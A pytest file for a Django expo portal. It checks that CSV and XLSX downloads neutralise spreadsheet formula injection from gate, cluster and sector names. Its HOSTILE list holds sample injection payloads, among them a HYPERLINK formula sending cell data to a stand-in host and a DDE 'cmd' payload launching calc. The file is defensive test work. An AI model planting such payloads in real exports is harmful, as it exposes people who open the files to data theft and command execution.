"""Every CSV and XLSX the portal hands out goes through ``expo.exports``: no cell runs as a formula."""

import csv
import datetime
import io
import uuid
import zipfile

import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from exhibitors import resources
from expo import exports, roles
from tests.conftest import add_to_role
from tests.factories import ClusterFactory, ExpoFactory, GateFactory, SectorFactory, UserFactory, register_visitor
from visitors import badges, services

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Gate 3")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes, sheet: str) -> list[tuple]:
    """(value, type) of every cell of ``sheet``, row by row."""
    book = load_workbook(io.BytesIO(content))
    return [[(cell.value, cell.data_type) for cell in row] for row in book[sheet].iter_rows()]


def has_formula(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in archive.namelist())


# --- The helper ------------------------------------------------------------------------------------


def test_csv_prefixes_every_text_that_would_start_a_formula_and_leaves_the_rest():
    rows = [[*HOSTILE], ["Gate 3", "", 12, -4, None, "a=b"]]

    written = csv_rows(exports.csv_content(rows))

    assert written == [["'" + value for value in HOSTILE], ["Gate 3", "", "12", "-4", "", "a=b"]]


def test_xlsx_stores_every_text_as_text_with_its_value_and_no_formula():
    content = exports.xlsx_content([("sheet", [HOSTILE, ["Gate 3", 12, None]])])

    cells = xlsx_cells(content, "sheet")

    # XML reads a carriage return back as a line feed.
    assert cells[0] == [(value.replace("\r", "\n"), "s") for value in HOSTILE]
    assert cells[1][:2] == [("Gate 3", "s"), (12, "n")]
    assert not has_formula(content)


def test_xlsx_drops_control_characters_the_format_cannot_hold():
    content = exports.xlsx_content([("sheet", [["North\x01 gate"]])])

    assert xlsx_cells(content, "sheet") == [[("North gate", "s")]]


def test_times_are_written_in_the_expo_time_zone_to_the_second_in_csv_and_xlsx(settings):
    settings.TIME_ZONE = "Asia/Karachi"
    asked = datetime.datetime(2026, 12, 2, 12, 50, 27, 875158, tzinfo=datetime.UTC)

    rows = list(csv.reader(io.StringIO(exports.csv_content([[asked]]).decode("utf-8-sig"))))
    workbook = load_workbook(io.BytesIO(exports.xlsx_content([("sheet", [[asked]])])))

    assert rows == [["2026-12-02 17:50:27"]]
    assert workbook["sheet"]["A1"].value == datetime.datetime(2026, 12, 2, 17, 50, 27)


def test_responses_are_downloads_the_browser_does_not_sniff():
    response = exports.csv_response([["a"]], filename="numbers.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="numbers.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert exports.xlsx_response([("s", [["a"]])], filename="n.xlsx")["Content-Type"] == XLSX_TYPE


# --- Attendance numbers (registration desk) ---------------------------------------------------------


@pytest.fixture
def desk_staff(db):
    user = UserFactory()
    add_to_role(user, roles.REGISTRATION_DESK)
    return user


@pytest.fixture
def hostile_gate_scanned(db):
    """A gate whose name is a formula, with one check-in, so it shows in the numbers."""
    today = timezone.localdate()
    expo = ExpoFactory(start_date=today, end_date=today)
    gate = GateFactory(expo=expo, name=HOSTILE[0])
    visitor = register_visitor(expo, category="student")
    services.scan_record(gate=gate, payload=badges.badge_payload(visitor.badge), scan_id=uuid.uuid4())
    return gate


def test_attendance_csv_neutralises_a_gate_named_like_a_formula(client, desk_staff, hostile_gate_scanned):
    client.force_login(desk_staff)

    response = client.get(reverse("visitor_numbers_export", args=["csv"]))

    assert response["Content-Disposition"].endswith('.csv"')
    assert ["gate", "'" + HOSTILE[0], "", "", "1"] in csv_rows(response.content)


def test_attendance_xlsx_stores_a_gate_named_like_a_formula_as_text(client, desk_staff, hostile_gate_scanned):
    client.force_login(desk_staff)

    response = client.get(reverse("visitor_numbers_export", args=["xlsx"]))

    assert [("gate", "s"), (HOSTILE[0], "s"), (None, "n"), (None, "n"), (1, "n")] in xlsx_cells(
        response.content, "attendance"
    )
    assert not has_formula(response.content)


# --- The nominations template (trade bodies) --------------------------------------------------------


@pytest.fixture
def hostile_cluster(db):
    """Cluster and sector names are staff's data; "=" sorts first, so this cluster fills the example row."""
    return ClusterFactory(name=HOSTILE[0], sector=SectorFactory(name=HOSTILE[1]))


def test_nominations_csv_template_neutralises_a_cluster_named_like_a_formula(
    client, member, trade_body, hostile_cluster
):
    client.force_login(member)

    response = client.get(reverse("nomination_import_template", args=[trade_body.pk, "csv"]))

    header, example = csv_rows(response.content)
    assert dict(zip(header, example, strict=True))["cluster"] == "'" + HOSTILE[0]


def test_nominations_xlsx_template_stores_cluster_and_sector_names_as_text(client, member, trade_body, hostile_cluster):
    client.force_login(member)

    response = client.get(reverse("nomination_import_template", args=[trade_body.pk, "xlsx"]))

    header, example = xlsx_cells(response.content, "Nominations")
    assert dict(zip([value for value, _type in header], example, strict=True))["cluster"] == (HOSTILE[0], "s")
    assert [("cluster", "s"), (HOSTILE[0], "s"), (HOSTILE[1], "s")] in xlsx_cells(response.content, "Allowed values")
    assert not has_formula(response.content)


def test_the_downloaded_csv_template_passes_the_import_check_unchanged(client, member, trade_body):
    """Its example row holds nothing the CSV writer has to neutralise (a "+92" phone would come back as "'+92")."""
    ClusterFactory(name="Surgical instruments, Sialkot")
    expo = ExpoFactory()
    client.force_login(member)
    template = client.get(reverse("nomination_import_template", args=[trade_body.pk, "csv"])).content

    dataset, row_numbers = resources.read_spreadsheet(template, "csv")
    report = resources.nominations_import(
        dataset=dataset, row_numbers=row_numbers, expo=expo, trade_body=trade_body, user=member, confirm=False
    )

    assert [(line.number, line.problems) for line in report.rows] == [(2, [])]


# --- No export elsewhere ----------------------------------------------------------------------------


def test_no_admin_offers_an_export_that_bypasses_the_helper():
    """django-import-export's admin export writes its own files; an admin that wants one uses expo.exports."""
    exporting = [
        type(model_admin).__name__
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]

    assert exporting == []
